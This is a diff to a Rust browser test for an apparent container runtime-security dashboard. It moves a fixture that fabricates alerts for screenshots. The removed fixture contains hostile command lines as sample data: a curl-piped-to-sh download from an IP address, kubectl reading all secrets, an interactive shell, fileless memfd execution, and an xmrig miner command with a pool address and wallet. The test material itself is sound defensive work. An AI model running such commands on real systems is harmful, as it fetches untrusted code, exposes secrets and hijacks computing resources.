@@ -1,41 +1,16 @@
 //! The page in a real browser.
 
 use crate::browser::Browser;
-use crate::publisher::Publisher;
-use crate::records::{alert, container, container_id, process, status};
+use crate::night::{Sender, bad_night};
+use crate::records::{alert, container, container_id, status};
 use crate::running::Backend;
-use event_model::{
-    BlindRule, Component, Container, Lane, Loss, LossReason, Priority, ProbeCoverage, ProbeState,
-    Record, SourceId, Timestamp,
-};
+use event_model::{Component, Container, Priority, Record};
 
 const SKIPPED: &str =
     "note: backend: the page was not tried in a browser: chromium-driver is not installed";
 
 fn url(backend: &Backend, path: &str) -> String {
     format!("http://127.0.0.1:{}{path}", backend.api_port)
-}
-
-/// Records of one lane of a source, sent and acknowledged one after the other.
-struct Sender {
-    publisher: Publisher,
-    source: SourceId,
-    sent: [u64; 4],
-}
-
-impl Sender {
-    async fn connect(backend: &Backend, node: &str) -> Self {
-        let publisher = Publisher::connect(backend, node).await;
-        Self { publisher, source: SourceId::generate(), sent: [0; 4] }
-    }
-
-    async fn send(&mut self, record: Record) {
-        let lane = record.lane();
-        self.sent[lane.index()] += 1;
-        let sequence = self.sent[lane.index()];
-        self.publisher.send(self.source, sequence, &[record]).await;
-        self.publisher.acknowledged(lane, sequence).await;
-    }
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -148,117 +123,6 @@ async fn the_token_opens_the_page() {
     assert_eq!(browser.value("document.cookie").await, "", "scripts cannot read the token");
     browser.value("(document.querySelector('.bar form').submit(), true)").await;
     browser.wait_for("location.pathname === '/login'").await;
-}
-
-/// A cluster on a bad night, for pictures.
-async fn bad_night(backend: &Backend) -> Vec<Sender> {
-    let mut first = Sender::connect(backend, "ip-10-0-3-17").await;
-    let mut second = Sender::connect(backend, "ip-10-0-3-18").await;
-    for (age, rule, priority, arguments, place) in [
-        (
-            4000,
-            "Package manager in a container",
-            Priority::Error,
-            &["/usr/bin/apt-get", "install", "-y", "nmap"][..],
-            Some(container('c')),
-        ),
-        (
-            900,
-            "Kubernetes client tool in a container",
-            Priority::Notice,
-            &["/usr/local/bin/kubectl", "get", "secrets", "--all-namespaces"],
-            Some(container('b')),
-        ),
-        (
-            610,
-            "Executable not of the image (drift)",
-            Priority::Error,
-            &["/tmp/.x/kworkerds"],
-            Some(container('b')),
-        ),
-        (60, "Shell in a container", Priority::Warning, &["/bin/sh", "-i"], Some(container('a'))),
-        (
-            42,
-            "Fileless execution (memfd)",
-            Priority::Critical,
-            &["memfd:kdevtmpfsi", "--daemon"],
-            Some(container('a')),
-        ),
-        (
-            7,
-            "Miner by its arguments",
-            Priority::Critical,
-            &[
-                "/tmp/xmrig",
-                "-o",
-                "stratum+tcp://pool.example.net:4444",
-                "-u",
-                "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
-                "-p",
-                "x",
-                "--donate-level=1",
-                "--cpu-max-threads-hint=75",
-            ],
-            Some(container('a')),
-        ),
-    ] {
-        let mut made = alert(rule, priority, arguments, place);
-        made.time = Timestamp(made.time.0 - age * 1_000_000_000);
-        made.detected_at = Timestamp(made.time.0 + 2_300_000);
-        made.tags = vec!["container".into(), "mitre_execution".into(), "T1496".into()];
-        made.process_chain[0].executable.upper_layer = arguments[0].starts_with("/tmp");
-        made.process_chain[0].executable.memfd = arguments[0].starts_with("memfd");
-        made.process_chain.insert(
-            1,
-            process(250, Some(200), &["/bin/sh", "-c", "curl -s http://198.51.100.7/i.sh | sh"]),
-        );
-        made.message = format!(
-            "{rule} (command={} container={})",
-            arguments.join(" "),
-            made.container.as_ref().unwrap().name.as_ref().unwrap()
-        );
-        first.send(Record::Alert(Box::new(made))).await;
-    }
-    let Record::SensorStatus(mut healthy) = status(first.source, Component::CollectorDs, &[])
-    else {
-        unreachable!()
-    };
-    let probe = |probe: &str, hook: &str| ProbeCoverage {
-        probe: probe.into(),
-        hook: hook.into(),
-        state: ProbeState::Active,
-        reason: None,
-    };
-    healthy.probes = vec![
-        probe("exec", "tp_btf/sched_process_exec"),
-        probe("fork", "tp_btf/sched_process_fork"),
-        probe("exit", "tp_btf/sched_process_exit"),
-        probe("cgroup", "tp_btf/cgroup_mkdir"),
-    ];
-    first.send(Record::SensorStatus(healthy.clone())).await;
-    let mut failing = healthy;
-    failing.description.id = second.source;
-    failing.problems = vec![
-        "/run/containerd/containerd.sock: permission denied; container names are missing".into(),
-    ];
-    failing.probes[3].state = ProbeState::Unsupported;
-    failing.probes[3].reason = Some("this kernel has no such tracepoint".into());
-    failing.blind_rules = vec![BlindRule {
-        rule: "Shell in a container".into(),
-        reason: "needs container metadata".into(),
-    }];
-    second.send(Record::SensorStatus(failing)).await;
-    let now = Timestamp::now();
-    let loss = Loss {
-        lane: Lane::Telemetry,
-        kind: "exec".into(),
-        reason: LossReason::RingFull,
-        count: 1243,
-        since: now,
-        until: now,
-    };
-    second.send(Record::Loss(loss)).await;
-    vec![first, second]
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
